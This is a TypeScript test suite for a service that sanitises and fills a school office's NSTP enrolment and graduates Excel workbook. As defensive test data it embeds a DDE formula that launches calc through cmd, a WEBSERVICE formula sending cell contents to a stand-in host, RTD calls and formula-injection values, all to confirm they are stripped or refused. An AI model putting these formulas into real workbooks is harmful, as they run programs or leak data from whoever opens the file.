import { execFile } from 'node:child_process'
import { access, readFile, writeFile } from 'node:fs/promises'
import { delimiter, join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, describe, expect, test } from 'vitest'
import type { Layout } from '#server/features/papers/layouts/layout.ts'
import { layoutOf } from '#server/features/papers/layouts/layouts.ts'
import { readOwnWorkbook } from '#server/features/papers/own-workbook.ts'
import { fillPaper } from '#server/features/papers/paper-workbook.ts'
import { xmlEscape } from '#server/lib/xml-escape.ts'
import { paperMessages } from '#shared/papers/papers.ts'
import { makeTemporaryFolder } from '#tests/setup/temporary-folder.ts'
import { openWorkbook } from './reading/workbook-rows.ts'
import { openParts } from './reading/zip-parts.ts'
import { columnLetters, openZip } from './workbook.ts'

const ched = layoutOf('ched-workbook', { ofGraduates: false })
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const content = 'application/vnd.openxmlformats-officedocument.spreadsheetml'

async function zip(parts: Readonly<Record<string, string>>): Promise<Buffer> {
  const file = openZip(new Date('2026-01-01T00:00:00Z'))
  for (const [path, text] of Object.entries(parts)) file.addText(path, text)
  file.end()
  return await buffer(file.output)
}

const relations = (list: Readonly<Record<string, string>>) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${Object.entries(list)
    .map(([id, rest]) => `<Relationship Id="${id}" ${rest}/>`)
    .join('')}</Relationships>`

const cell = (at: string, text: string, style = 0) =>
  `<c r="${at}" s="${style}" t="inlineStr"><is><t xml:space="preserve">${xmlEscape(text)}</t></is></c>`

const row = (number: number, cells: readonly string[]) => `<row r="${number}">${cells.join('')}</row>`

const sheet = (rows: string, after = '') =>
  `<worksheet xmlns="${main}" xmlns:r="${office}"><dimension ref="A1:T9"/><sheetData>${rows}</sheetData>${after}</worksheet>`

const headRow = (number: number, heads: readonly string[]) =>
  row(
    number,
    heads.map((head, index) => cell(`${columnLetters(index)}${number}`, head)),
  )

/** As the layout has them, but for the year of the title. */
const summary = () => {
  const [{ cells }] = ched.sheets as [Layout['sheets'][number]]
  const numbers = [...new Set(cells.map(({ at }) => Number(/\d+/.exec(at)?.[0])))]
  return sheet(
    numbers
      .map((number) => {
        const own = cells.filter(
          ({ at }) =>
            at.endsWith(String(number)) && /^[A-Z]+/.exec(at)?.[0] === at.replace(String(number), ''),
        )
        const texts = own.map(({ at, text }) =>
          cell(at, text.includes('{') ? 'AY 2024-2025' : text.toLowerCase(), 2),
        )
        return row(
          number,
          number === 6 ? [...texts, '<c r="B6" s="2"><f>[1]Sheet1!A1+1</f><v>9</v></c>'] : texts,
        )
      })
      .join(''),
  )
}

const headsOf = (index: number) => (ched.sheets[index]?.list?.columns ?? []).map(({ head }) => head)
// In another order, with other blanks, line breaks and capitals; without the column that stays empty.
const enrolmentHeads = headsOf(1)
  .filter((head) => head !== 'NSTP SERIAL NUMBER')
  .map((head) => head.toLowerCase().replaceAll(' ', '\n'))
  .reverse()
const graduateHeads = headsOf(2).map((head) => (head === 'LAST NAME' ? 'SURNAME' : head))

const oldRow = `<row r="5" ht="30"><c r="A5" s="2"><v>1</v></c><c r="F5" s="3" t="s"><v>1</v></c><c r="I5" s="2"/><c r="J5" s="1"><v>38000</v></c><c r="S5"><f>A5&amp;"@x"</f><v>1@x</v></c></row>
  <row r="6"><c r="F6" t="s"><v>1</v></c></row>`

const names = ['Summary', 'Enrolled', ' Nstp  graduates', 'Notes', 'Codes']

const parts: Readonly<Record<string, string>> = {
  '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/workbook.xml" ContentType="${content}.sheet.main+xml"/>${names.map((_, index) => `<Override PartName="/xl/worksheets/sheet${index + 1}.xml" ContentType="${content}.worksheet+xml"/>`).join('')}<Override PartName="/xl/styles.xml" ContentType="${content}.styles+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${content}.sharedStrings+xml"/><Override PartName="/xl/calcChain.xml" ContentType="${content}.calcChain+xml"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${content}.externalLink+xml"/><Override PartName="/xl/externalLinks/externalLink2.xml" ContentType="${content}.externalLink+xml"/></Types>`,
  '_rels/.rels': relations({ rId1: `Type="${office}/officeDocument" Target="xl/workbook.xml"` }),
  'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${office}"><sheets>${names.map((name, index) => `<sheet name="${name}" sheetId="${index + 1}" r:id="rId${index + 1}"/>`).join('')}</sheets><externalReferences><externalReference r:id="rId21"/><externalReference r:id="rId22"/></externalReferences><definedNames><definedName name="Outside">[1]Sheet1!$A$1</definedName><definedName name="Inside">Codes!$A$1</definedName></definedNames><calcPr calcId="191029"/></workbook>`,
  'xl/_rels/workbook.xml.rels': relations({
    ...Object.fromEntries(
      names.map((_, index) => [
        `rId${index + 1}`,
        `Type="${office}/worksheet" Target="${index === 4 ? '/xl/' : ''}worksheets/sheet${index + 1}.xml"`,
      ]),
    ),
    rId11: `Type="${office}/styles" Target="styles.xml"`,
    rId12: `Type="${office}/sharedStrings" Target="sharedStrings.xml"`,
    rId20: `Type="${office}/calcChain" Target="calcChain.xml"`,
    rId21: `Type="${office}/externalLink" Target="externalLinks/externalLink1.xml"`,
    rId22: `Type="${office}/externalLink" Target="externalLinks/externalLink2.xml"`,
    rId23: 'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"',
  }),
  'xl/worksheets/sheet1.xml': summary(),
  'xl/worksheets/sheet2.xml': sheet(headRow(2, enrolmentHeads)),
  'xl/worksheets/sheet3.xml': sheet(
    `${row(1, ['<c r="A1" t="s"><v>0</v></c>'])}${headRow(4, graduateHeads)}${oldRow}`,
    '<autoFilter ref="A4:T6"><filterColumn colId="5"><filters><filter val="Old Person"/></filters></filterColumn></autoFilter><mergeCells count="2"><mergeCell ref="A1:C1"/><mergeCell ref="A6:C6"/></mergeCells><hyperlinks>\n<hyperlink ref="S5" r:id="rId1"/></hyperlinks>',
  ),
  'xl/worksheets/_rels/sheet3.xml.rels': relations({
    rId1: `Type="${office}/hyperlink" Target="mailto:old@person.example" TargetMode="External"`,
  }),
  'xl/worksheets/sheet4.xml': sheet(row(1, ['<c r="A1"><f>[2]Sheet1!A1</f><v>7</v></c>'])),
  'xl/worksheets/sheet5.xml': sheet(
    row(1, [
      '<c r="A1" t="str"><f>\'Nstp graduates\'!F5</f><v>Old Person</v></c>',
      '<c r="B1"><f>SUM(Codes[2025])</f><v>0</v></c>',
    ]),
  ),
  'xl/drawings/_rels/drawing1.xml.rels': relations({
    rId1: `Type="${office}/chart" Target="../charts/chart1.xml"`,
  }),
  'xl/charts/chart1.xml':
    '<c:chart xmlns:c="x"><c:f>Codes!$A$1</c:f><c:strCache><c:v>Old Person</c:v></c:strCache></c:chart>',
  'xl/styles.xml': `<styleSheet xmlns="${main}"><fonts count="1"><font><sz val="11"/></font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs><cellXfs count="4"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/><xf numFmtId="0"/><xf numFmtId="49"/></cellXfs></styleSheet>`,
  'xl/sharedStrings.xml': `<sst xmlns="${main}"><si><t>Region III</t></si><si><t>Old Person</t></si></sst>`,
  'xl/calcChain.xml': `<calcChain xmlns="${main}"><c r="S5" i="3"/></calcChain>`,
  'xl/externalLinks/externalLink1.xml': `<externalLink xmlns="${main}"/>`,
  'xl/externalLinks/externalLink2.xml': `<externalLink xmlns="${main}"/>`,
  'xl/externalLinks/_rels/externalLink1.xml.rels': relations({
    rId1: `Type="${office}/externalLinkPath" Target="file:///old.xlsx" TargetMode="External"`,
  }),
  'xl/vbaProject.bin': 'macros',
  'xl/theme/theme1.xml': '<a:theme xmlns:a="x">\r\n  <!-- as it is --></a:theme>',
}

const surname = [{ sheet: 2, value: 'lastName', column: 'F' }]
const readBase = async (file: Buffer) => {
  const own = await readOwnWorkbook(file, [ched], surname)
  if ('unknown' in own) throw new Error(JSON.stringify(own))
  return own
}

// Of a made-up person, by the values of the layout.
const values = [...new Set(ched.sheets.flatMap(({ list }) => list?.columns ?? []).map(({ value }) => value))]
const person = (change: Readonly<Record<string, string>>) => {
  const own: Readonly<Record<string, string>> = {
    dateOfBirth: '2006-02-28',
    yearLevel: '1',
    blank: '',
    ...change,
  }
  return { cells: values.map((value) => own[value] ?? value) }
}
const people = [
  person({ seq: '1', lastName: '=1+1', firstName: '+63', middleName: '-5', email: '@SUM(A1)' }),
  { cells: ['erased'] },
  person({ seq: '3', lastName: 'Peña & <Cruz>', dateOfBirth: '' }),
]
const none = { ROTC: { Male: 0, Female: 0 }, CWTS: { Male: 0, Female: 0 }, LTS: { Male: 0, Female: 0 } }

async function fill(base: Awaited<ReturnType<typeof readBase>>) {
  const paper = {
    definition: { layout: ched, values, texts: { academicYear: '2026-2027' }, heiType: 'PRIVATE' },
    counts: { enrolment: { ...none, CWTS: { Male: 12, Female: 30 } }, graduates: none },
    async *readRows(list: 'enrolment' | 'graduates') {
      if (list === 'graduates') yield people
    },
  }
  return await buffer(await fillPaper(paper, base, new Date('2027-05-28T00:00:00Z')))
}

async function rowsOf(file: Buffer, name: string) {
  const { sheets, rowsOf: read } = await openWorkbook(await openParts(file))
  const rows: Record<number, string[]> = {}
  const part = sheets.find((one) => one.name.trim() === name.trim())?.part ?? ''
  for await (const { number, cells } of read(part)) rows[number] = cells
  return rows
}

async function textsOf(file: Buffer): Promise<Record<string, string>> {
  const own = await openParts(file)
  const texts: Record<string, string> = {}
  for (const path of own.paths) {
    const chunks: Buffer[] = []
    for await (const chunk of own.read(path)) chunks.push(chunk)
    texts[path] = Buffer.concat(chunks).toString()
  }
  return texts
}

/** A row of the graduates as the workbook's own headings have it. */
const expected = (change: Readonly<Record<number, string>>) =>
  headsOf(2).map((_head, index) => {
    const value = ched.sheets[2]?.list?.columns[index]?.value ?? ''
    const texts: Readonly<Record<string, string>> = { blank: '', dateOfBirth: '2006-02-28', yearLevel: '1' }
    return change[index] ?? texts[value] ?? value
  })

async function mustBeFilled(file: Buffer) {
  const graduates = await rowsOf(file, ' Nstp  graduates')
  expect(graduates[1]).toEqual(['Region III'])
  expect(graduates[4]).toEqual(graduateHeads)
  expect(graduates[5]).toEqual(expected({ 0: '1', 5: '=1+1', 6: '+63', 8: '-5', 18: '@SUM(A1)' }))
  expect(graduates[6]).toBeUndefined()
  expect(graduates[7]).toEqual(expected({ 0: '3', 5: 'Peña & <Cruz>', 9: '' }))
  const numbers = await rowsOf(file, 'Summary')
  expect(numbers[2]).toEqual(['Summary of NSTP enrollment and graduates AY 2026-2027'])
  expect(numbers[6]).toEqual(['cwts', '12', '30'])
  expect(numbers[8]).toEqual(['rotc', '0', '0'])
}

const folder = makeTemporaryFolder()
afterAll(folder.remove)

describe('the office’s own workbook', () => {
  test('asks for the columns of headings that it words otherwise', async () => {
    const unknown = await readOwnWorkbook(await zip(parts), [ched], [])
    const offered = { column: 'F', head: 'SURNAME' }
    const missing = { value: 'lastName', head: 'LAST NAME', proposed: 'F' }
    // The serial number is left blank, so nothing is asked about it.
    const columns = [{ column: 'E', head: 'NSTP SERIAL NUMBER' }, offered]
    expect(unknown).toEqual({
      unknown: [{ sheet: 2, name: ' Nstp  graduates', columns, missing: [missing] }],
    })
    const twice = [{ sheet: 2, value: 'lastName', column: 'G' }]
    await expect(readOwnWorkbook(await zip(parts), [ched], twice)).rejects.toThrow(paperMessages.columnTwice)
    const far = [{ sheet: 2, value: 'lastName', column: 'ZZZ' }]
    await expect(readOwnWorkbook(await zip(parts), [ched], far)).rejects.toThrow(paperMessages.noColumn)
  })

  test('is for one list of a form, and keeps titles of its own', async () => {
    const variants = [
      layoutOf('osds-2b', { ofGraduates: false }),
      layoutOf('osds-2b', { ofGraduates: true }),
    ] as const
    const heads = (variants[0].sheets[0]?.list?.columns ?? []).map(({ head }) => head)
    const titles = [row(2, [cell('A2', 'Our graduates')]), row(3, [cell('A3', 'CWTS, 2024-2025')])].join('')
    const rows = titles + headRow(5, [...heads, 'Transferee (Y/N)'])
    const file = await zip({ ...parts, 'xl/worksheets/sheet1.xml': sheet(rows) })
    const read = async (column?: string) =>
      await readOwnWorkbook(
        file,
        variants,
        column === undefined ? [] : [{ sheet: 0, value: 'transferee', column }],
      )
    expect(await read()).toMatchObject({
      unknown: [{ missing: [{ value: 'transferee', head: 'Is Transferee', proposed: 'N' }] }],
    })
    expect(await read('N')).toMatchObject({
      headings: [{ titles: ['A1', 'A3'], columns: { transferee: 13 } }],
    })
    expect(await read('')).not.toHaveProperty('headings.0.columns.transferee')
  })

  test('is filled by its own headings, and the rest stays but for what is removed', async () => {
    const base = await readBase(await zip(parts))
    expect(base.removed).toEqual(['macros', '2 external links', 'calculation chain', '2 old rows'])
    const filled = await fill(base)
    await mustBeFilled(filled)
    const texts = await textsOf(filled)
    const changed = names.map((_, index) => `xl/worksheets/sheet${index + 1}.xml`)
    const rewritten = [
      '[Content_Types].xml',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      ...changed,
      'xl/worksheets/_rels/sheet3.xml.rels',
      'xl/sharedStrings.xml',
      'xl/charts/chart1.xml',
    ]
    const gone = Object.keys(parts).filter((path) => /calcChain|externalLink|vbaProject/.test(path))
    for (const [path, text] of Object.entries(parts)) {
      if (gone.includes(path)) expect([path, texts[path]]).toEqual([path, undefined])
      else if (!rewritten.includes(path)) expect([path, texts[path]]).toEqual([path, text])
    }
    const all = Object.values(texts).join('\n')
    for (const trace of [
      'Old Person',
      'old@person',
      'vbaProject',
      'externalLink',
      'calcChain',
      '[1]',
      '[2]',
    ]) {
      expect([trace, all.includes(trace)]).toEqual([trace, false])
    }
    expect(texts['xl/workbook.xml']).toContain('<definedName name="Inside">Codes!$A$1</definedName>')
    expect(texts['xl/workbook.xml']).toContain('fullCalcOnLoad="1"')
    // A formula stays without its result.
    expect(texts['xl/worksheets/sheet5.xml']).toContain('<c r="B1"><f>SUM(Codes[2025])</f></c>')
    // The value of a formula that pointed outside stays.
    expect(texts['xl/worksheets/sheet4.xml']).toContain('<c r="A1"><v>7</v></c>')
    const list = texts['xl/worksheets/sheet3.xml'] ?? ''
    expect(list).not.toContain('<f>')
    // As the first row was: its height, its formats, also of cells that nothing is written into.
    expect(list).toContain('<row r="5" ht="30" customHeight="1"><c r="A5" s="2"><v>1</v></c>')
    expect(list).toContain('<c r="F5" s="3" t="inlineStr">')
    expect(list).toContain('<c r="J5" s="1"><v>38776</v></c>')
    expect(list).toContain(
      '<row r="6" ht="30" customHeight="1"><c r="A6" s="2"/><c r="F6" s="3"/><c r="I6" s="2"/>',
    )
    expect(list).toContain('<mergeCells><mergeCell ref="A1:C1"/></mergeCells></worksheet>')
    // The same each time.
    expect((await fill(base)).equals(filled)).toBe(true)
    // Without a format of a date, it is a text.
    const { columns } = base.headings[1] ?? {}
    expect(base.headings[1]?.dates).toEqual([])
    expect(columns?.seq).toBe(enrolmentHeads.indexOf('seqno.'))
  })

  test('loses formulas that ask a service, a program or a file, which are named', async () => {
    const shared = (at: string, text: string) =>
      `<c r="${at}"><f t="shared" si="0" ref="A1:A2">${text}</f><v>old</v></c>`
    const rows = [
      row(1, [
        shared('A1', '_xlfn.WEBSERVICE("http://a.example/?"&amp;C1)'),
        '<c r="B1"><f>SUM(C1:C2)</f></c>',
      ]),
      row(2, [shared('A2', ''), '<c r="B2" t="str"><f>cmd|\'/c calc\'!A0</f><v>0</v></c>']),
    ]
    const { bytes, removed } = await readBase(
      await zip({
        ...parts,
        'xl/worksheets/sheet5.xml': sheet(rows.join('')),
        'xl/workbook.xml': (parts['xl/workbook.xml'] ?? '').replace(
          '<definedName name="Inside">',
          '<definedName name="Shares">RTD("prog",,"x")</definedName><definedName name="Inside">',
        ),
      }),
    )
    expect(removed).toContain('4 formulas with DDE, RTD, WEBSERVICE')
    const texts = await textsOf(bytes)
    expect(texts['xl/workbook.xml']).not.toContain('Shares')
    const own = texts['xl/worksheets/sheet5.xml'] ?? ''
    expect(own.match(/<f>.*?<\/f>/g)).toEqual(['<f>SUM(C1:C2)</f>'])
    // What they last said stays, as a value.
    expect(own).toContain('<c r="A2"><v>old</v></c>')
  })

  const unfit: Record<string, [Readonly<Record<string, string>>, string]> = {
    'an .xlsm file': [
      {
        '[Content_Types].xml': (parts['[Content_Types].xml'] ?? '').replace(
          `${content}.sheet.main`,
          'application/vnd.ms-excel.sheet.macroEnabled.main',
        ),
      },
      'This workbook has macros. Please save it in Excel as an Excel Workbook (.xlsx).',
    ],
    'a million rows': [
      { 'xl/worksheets/sheet5.xml': sheet('<row/>'.repeat(1_000_000)) },
      'more than 50,000 rows',
    ],
    'a picture that unpacks to 100 MB': [
      { 'xl/media/image1.png': '0'.repeat(101_000_000) },
      'unpacks to more',
    ],
    'no third sheet': [
      {
        'xl/workbook.xml': (parts['xl/workbook.xml'] ?? '').replace(
          /<sheet name=" Nstp.*?(?=<\/sheets>)/,
          '',
        ),
      },
      paperMessages.noSheet('NSTP Graduates'),
    ],
    'no headings': [
      { 'xl/worksheets/sheet2.xml': sheet(headRow(16, enrolmentHeads)) },
      paperMessages.noHeadings('Enrolled', headsOf(1).slice(0, 4)),
    ],
    'other labels beside the counts': [
      { 'xl/worksheets/sheet1.xml': summary().replace('>rotc<', '>MTS<') },
      paperMessages.otherLabel('Summary', 'A8', 'ROTC'),
    ],
    'pivot tables': [
      {
        'xl/worksheets/_rels/sheet5.xml.rels': relations({
          rId1: `Type="${office}/pivotCacheDefinition" Target="../pivotCache/p.xml"`,
        }),
      },
      'This workbook has pivot tables.',
    ],
    comments: [
      {
        'xl/worksheets/_rels/sheet5.xml.rels': relations({
          rId1: `Type="${office}/comments" Target="../comments1.xml"`,
        }),
      },
      'This workbook has comments.',
    ],
    'headings in two rows': [
      {
        'xl/worksheets/sheet3.xml': sheet(
          headRow(4, graduateHeads),
          '<mergeCells><mergeCell ref="A4:A5"/></mergeCells>',
        ),
      },
      'reach over several rows',
    ],
    'a formula that fills several cells': [
      { 'xl/worksheets/sheet5.xml': sheet(row(1, ['<c r="A1"><f t="array" ref="A1:A9">B1:B9</f></c>'])) },
      'formulas that fill several cells',
    ],
    'a choice from another file': [
      {
        'xl/worksheets/sheet5.xml': sheet(
          '',
          '<dataValidations><dataValidation><formula1>[1]Codes!A1</formula1></dataValidation></dataValidations>',
        ),
      },
      'rules with links to other files',
    ],
    'a rule that asks a service': [
      {
        'xl/worksheets/sheet5.xml': sheet(
          '',
          '<conditionalFormatting sqref="A1"><cfRule><formula>_xlfn.WEBSERVICE(A1)=1</formula></cfRule></conditionalFormatting>',
        ),
      },
      'This workbook has charts or rules with WEBSERVICE.',
    ],
    'a scale of colours that asks a program': [
      {
        'xl/worksheets/sheet5.xml': sheet(
          '',
          '<conditionalFormatting sqref="A1"><cfRule><colorScale><cfvo type="formula" val="RTD(&quot;a&quot;)"/></colorScale></cfRule></conditionalFormatting>',
        ),
      },
      'This workbook has charts or rules with RTD.',
    ],
    'a chart that asks a program': [
      { 'xl/charts/chart1.xml': '<c:chart xmlns:c="x"><c:f>app|topic!item</c:f></c:chart>' },
      'This workbook has charts or rules with DDE.',
    ],
    'an add-in': [
      {
        '_rels/.rels': relations({
          rId1: `Type="${office}/officeDocument" Target="xl/workbook.xml"`,
          rId2: 'Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="xl/webextensions/taskpanes.xml"',
        }),
      },
      'This workbook has add-ins.',
    ],
    'a picture that a function got from the web': [
      {
        'xl/worksheets/_rels/sheet5.xml.rels': relations({
          rId1: 'Type="http://schemas.microsoft.com/office/2020/07/relationships/rdRichValueWebImage" Target="../richData/rdRichValueWebImage.xml"',
        }),
      },
      'This workbook has pictures from the web.',
    ],
    'a summary of 9 MB': [
      {
        'xl/worksheets/sheet1.xml': summary().replace(
          '</sheetData>',
          `${row(99, Array<string>(300).fill(cell('A99', 'x'.repeat(30_000))))}</sheetData>`,
        ),
      },
      'too large without its rows',
    ],
    'a picture from elsewhere': [
      {
        'xl/worksheets/_rels/sheet5.xml.rels': relations({
          rId1: `Type="${office}/image" Target="http://elsewhere.example/x.png" TargetMode="External"`,
        }),
      },
      'This workbook has links to files outside.',
    ],
  }
  test.each(Object.entries(unfit))('is refused with %s', async (_what, [change, sentence]) => {
    await expect(readBase(await zip({ ...parts, ...change }))).rejects.toThrow(sentence)
  })

  test('is calculated when it is opened, also where it says nothing about that', async () => {
    const { bytes } = await readBase(
      await zip({
        ...parts,
        'xl/workbook.xml': (parts['xl/workbook.xml'] ?? '').replace(/<calcPr.*?>/, '<oleSize ref="A1"/>'),
      }),
    )
    expect((await textsOf(bytes))['xl/workbook.xml']).toContain(
      '</definedNames><calcPr fullCalcOnLoad="1"/><oleSize ref="A1"/></workbook>',
    )
  })

  test('is refused with a password', async () => {
    const file = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.from('EncryptedPackage', 'utf16le'),
    ])
    await expect(readBase(file)).rejects.toThrow('protected by a password')
  })
})

async function findOffice(): Promise<string | undefined> {
  for (const path of (process.env.PATH ?? '').split(delimiter).map((one) => join(one, 'soffice'))) {
    const isThere = await access(path).then(
      () => true,
      () => false,
    )
    if (isThere) return path
  }
  return
}

const libreOffice = await findOffice()

test.skipIf(libreOffice === undefined)(
  'LibreOffice opens what was filled and saves the same',
  { timeout: 120_000 },
  async () => {
    const path = join(folder.path, 'filled.xlsx')
    await writeFile(path, await fill(await readBase(await zip(parts))))
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder.path, 'profile')).href}`
    const target = ['--convert-to', 'xlsx:Calc MS Excel 2007 XML', '--outdir', join(folder.path, 'saved')]
    await promisify(execFile)(libreOffice ?? '', [profile, '--headless', ...target, path])
    await mustBeFilled(await readFile(join(folder.path, 'saved/filled.xlsx')))
  },
)
